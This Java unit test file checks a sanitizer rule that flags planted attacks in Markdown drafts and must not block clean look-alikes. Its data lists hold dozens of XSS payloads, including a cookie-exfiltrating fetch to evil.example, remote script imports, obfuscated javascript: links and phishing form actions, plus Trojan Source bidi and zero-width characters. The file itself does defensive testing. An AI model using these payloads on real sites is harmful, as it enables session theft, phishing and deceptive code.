package com.copydesk.rules.checks;

import com.copydesk.model.Draft;
import com.copydesk.model.Finding;
import com.copydesk.model.Severity;
import com.copydesk.rules.BodyFacts;
import com.copydesk.rules.CorpusFacts;
import com.copydesk.rules.RuleContext;
import org.junit.jupiter.api.Test;

import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.function.UnaryOperator;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * suspicious-text on planted attacks in many forms and places, and on clean look-alikes: the same
 * text shown in code, harmless HTML, prose that names JavaScript, emoji and scripts that need
 * joiners. Recall must be at least 99% and no look-alike may be blocked.
 */
class SuspiciousTextCasesTest {
    private static final SuspiciousTextRule RULE = new SuspiciousTextRule(Severity.BLOCK);

    private static final String INTRO = "# Handling events\n\nSome prose about the topic, with a [link](https://example.org/a).\n\n";
    private static final String OUTRO = "\n\nMore prose after it, and the end.\n";

    /** Script in live HTML, each a different vector or obfuscation. */
    private static final List<String> ATTACKS = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<script type=\"module\">import('//evil.example')</script>",
            "<svg onload=alert(1)>",
            "<svg/onload=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"x.png\" onerror=\"fetch('//evil.example?c='+document.cookie)\">",
            "<video><source onerror=\"alert(1)\"></video>",
            "<audio src=x onerror=alert(1)>",
            "<a href=\"#\" onclick=\"steal()\">click</a>",
            "<a onmouseover='steal()'>hover me</a>",
            "<body onload=alert(1)>",
            "<div onpointerenter=alert(1)>x</div>",
            "<input autofocus onfocus=alert(1)>",
            "<marquee onstart=alert(1)>",
            "<p ONCLICK=\"x()\">para</p>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
            "<object data=\"evil.swf\"></object>",
            "<embed src=\"evil.swf\">",
            "<form action=\"https://evil.example/login\"><input name=p></form>",
            "<base href=\"https://evil.example/\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\"java&#115;cript:alert(1)\">x</a>",
            "<a href=\"java&#x73;cript:alert(1)\">x</a>",
            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
            "<a href=\"javascript&colon;alert(1)\">x</a>",
            "<a href=\"jav&Tab;ascript:alert(1)\">x</a>",
            "<a href=\"jav\tascript:alert(1)\">x</a>",
            "<a href=\" javascript:alert(1)\">x</a>",
            "<a href=javascript:alert(1)>x</a>",
            "<a href='vbscript:msgbox(1)'>x</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
            "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
            "<form><button formaction=\"javascript:alert(1)\">go</button></form>",
            "[click me](javascript:alert(1))",
            "[click me](JAVASCRIPT:alert(1))",
            "[click me](java&#115;cript:alert(1))",
            "[click me](<javascript:alert(1)>)",
            "[click me][ref]\n\n[ref]: javascript:alert(1)",
            "<javascript:alert(1)>",
            "![pic](data:text/html;base64,PHNjcmlwdD4=)",
            "[x](data:text/html,<script>alert(1)</script>)",
            "<div>\n<img src=x\n  onerror=alert(1)>\n</div>",
            "<span style=\"color:red\" onanimationstart=alert(1)>x</span>",
            "<svg><a><animate attributeName=href values=\"#;#top;javascript:alert(1)\"/><text>x</text></a></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
            "<math><mtext><a href=\"&#x6A;&#x61;&#x76;&#x61;script&#x3A;alert(1)\">x</a></mtext></math>");

    /** Where in a body an attack is planted: each wraps the attack's Markdown. */
    private static final List<UnaryOperator<String>> PLACES = List.of(
            a -> a,
            a -> "Inline in a sentence " + a + " and on.",
            a -> "- first item\n- an item " + a + "\n- third item",
            a -> "> a quote " + a,
            a -> "## A section\n\n" + a,
            a -> "1. step one\n2. step " + a);

    /** Hidden characters, anywhere, code included: each attack is text with one in it. */
    private static final List<String> HIDDEN = List.of(
            "access = \"user\u202E \u2066// check if admin\u2069 \u2066\"",
            "if (isAdmin\u200B) { grant(); }",
            "```js\nconst role = 'user\u202E';\n```",
            "```\nif (access_level != \"user\u202E \u2066// Check if admin\u2069 \u2066\") {\n```",
            "`inline\u2067code`",
            "    indented\u200Ccode // after a Latin letter",
            "word\u2060joiner",
            "zero\uFEFFwidth",
            "bell\u0007 in text",
            "escape \u001B[2J clears a terminal",
            "line\u2028separator",
            "arabic mark\u061C here",
            "left\u200Eright mark",
            "smuggled \uDB40\uDC41\uDB40\uDC42 tag letters",
            "emoji then a stray joiner \uD83D\uDC69\u200D and text",
            "\u200D\uD83D\uDCBB joiner before an emoji at the start",
            "Latin\u200Dletters joined");

    /** Clean text that looks like an attack: must not be blocked. */
    private static final List<String> CLEAN = List.of(
            "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
            "```\n<svg onload=alert(1)>\n<iframe src=\"https://x.example\"></iframe>\n```",
            "~~~html\n<details ontoggle=alert(1)>\n~~~",
            "    <script src=\"app.js\"></script>\n    <a href=\"javascript:void(0)\">x</a>",
            "Use `<script>` to load it, or `<img onerror=...>` to see the error.",
            "Write `[x](javascript:alert(1))` to test your sanitizer.",
            "JavaScript: the good parts is a book. javascript: is also a URL scheme some sanitizers block.",
            "The onload event fires when the page has loaded; onclick=handler in prose is not HTML.",
            "<img src=\"https://img.example/chart.png\" alt=\"a chart\" width=\"400\">",
            "<p align=\"center\"><img src=\"logo.svg\" height=\"80\"></p>",
            "<a href=\"https://example.org/docs\" title=\"docs\">the docs</a>",
            "<details><summary>More</summary>\n\nHidden text.\n\n</details>",
            "<kbd>Ctrl</kbd> + <kbd>C</kbd> and <sub>2</sub> and <br/>",
            "<!-- <script>alert(1)</script> a comment -->",
            "<div data-on=\"x\" class=\"note\">a note</div>",
            "<img alt=\"data: a chart of the numbers\" src=\"chart.png\">",
            "<a href=\"https://example.org/?q=javascript:alert\">search</a>",
            "[data sources](https://example.org/data:2024)",
            "a < b and c > d, x<y",
            "&lt;script&gt;alert(1)&lt;/script&gt; written with entities",
            "\\<script>alert(1)\\</script> escaped",
            "\\<svg/onload=alert(1)> escaped, and &lt;svg/onload=alert(1)> as an entity",
            "A coder \uD83D\uDC69\u200D\uD83D\uDCBB at work, a family \uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
            "Pride \uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08 and \u2764\uFE0F\u200D\uD83D\uDD25 and \uD83D\uDC4B\uD83C\uDFFD\u200D\u2642\uFE0F",
            "Scotland \uD83C\uDFF4\uDB40\uDC67\uDB40\uDC62\uDB40\uDC73\uDB40\uDC63\uDB40\uDC74\uDB40\uDC7F flag",
            "Text style \u2764\uFE0E and emoji style \u2764\uFE0F, keycap 1\uFE0F\u20E3",
            "Persian: \u0645\u06CC\u200C\u062E\u0648\u0627\u0647\u0645 (I want)",
            "Hindi: \u0915\u094D\u200D\u0937 and \u0915\u094D\u200C\u0937",
            "Arabic with joiner: \u0644\u200D\u0627",
            "Tabs\tin\ta body are fine",
            "```js\nconst emoji = '\uD83D\uDC69\u200D\uD83D\uDCBB';\n```");

    @Test
    void everyPlantedAttackIsFoundWhereverItStands() {
        List<String> missed = new ArrayList<>();
        int planted = 0;
        for (String attack : ATTACKS) {
            for (UnaryOperator<String> place : PLACES) {
                // a reference definition stands on its own lines, after the text that uses it
                int definition = attack.indexOf("\n\n[ref]:");
                String body = definition < 0 ? INTRO + place.apply(attack) + OUTRO
                        : INTRO + place.apply(attack.substring(0, definition)) + OUTRO + attack.substring(definition);
                planted++;
                if (find(Draft.of("r", "A title", body)).isEmpty()) {
                    missed.add(body);
                }
            }
        }
        for (String hidden : HIDDEN) {
            planted += 2;
            if (find(Draft.of("r", "A title", INTRO + hidden + OUTRO)).isEmpty()) {
                missed.add(hidden);
            }
            String title = hidden.lines().filter(l -> !l.startsWith("```")).findFirst().orElseThrow().strip();
            if (find(Draft.of("r", title, INTRO + OUTRO)).isEmpty()) {
                missed.add("title: " + title);
            }
        }
        double recall = 1 - (double) missed.size() / planted;
        System.out.printf("suspicious-text: %d planted, recall %.1f%%%n", planted, 100 * recall);
        assertThat(recall).as("missed: %s", missed).isGreaterThanOrEqualTo(0.99);
    }

    @Test
    void cleanLookAlikesAreNotBlocked() {
        List<String> blocked = new ArrayList<>();
        for (String clean : CLEAN) {
            for (UnaryOperator<String> place : List.<UnaryOperator<String>>of(a -> a, a -> "## Section\n\n" + a)) {
                List<Finding> findings = find(Draft.of("r", "A title", INTRO + place.apply(clean) + OUTRO));
                if (!findings.isEmpty()) {
                    blocked.add(clean + " -> " + findings.get(0).message());
                }
            }
        }
        assertThat(blocked).isEmpty();
        assertThat(find(Draft.of("r", "Pair programming \uD83D\uDC69\u200D\uD83D\uDCBB\uD83D\uDC68\u200D\uD83D\uDCBB", INTRO)))
                .as("emoji in a title").isEmpty();
    }

    @Test
    void evidenceNamesWhatAndWhereUpToThree() {
        String body = "# T\n\nProse.\n\n<svg onload=a()>\n\n<details ontoggle=b()>\n\n[x](javascript:c())\n\n<script>d()</script>\n";
        assertThat(find(Draft.of("r", "T", body))).singleElement().satisfies(f -> {
            assertThat(f.severity()).isEqualTo(Severity.BLOCK);
            assertThat(f.message()).contains("\"onload\" on <svg> at line 5")
                    .contains("\"ontoggle\" on <details> at line 7").contains("javascript: link at line 9")
                    .doesNotContain("<script>");
        });
        String wrapped = "# T\n\nA paragraph over lines,\nthe second with <span onclick=a()>x</span>,\nthe third with "
                + "<img src=x\nonerror=b()> and\nthe fifth with [x](javascript:c()).\n";
        assertThat(find(Draft.of("r", "T", wrapped))).as("lines inside a paragraph are counted").singleElement()
                .satisfies(f -> assertThat(f.message()).contains("\"onclick\" on <span> at line 4")
                        .contains("\"onerror\" on <img> at line 5").contains("javascript: link at line 7"));
        String trojan = "# T\n\n```c\nint x; /* \u202E } \u2066 */\n```\n";
        assertThat(find(Draft.of("r", "T", trojan))).singleElement()
                .satisfies(f -> assertThat(f.message()).contains("U+202E").contains("RIGHT-TO-LEFT OVERRIDE")
                        .contains("line 4").contains("U+2066"));
    }

    private static List<Finding> find(Draft draft) {
        return RULE.check(draft, new RuleContext(LocalDate.parse("2026-11-25"), BodyFacts.of(draft.body()), CorpusFacts.NONE));
    }
}
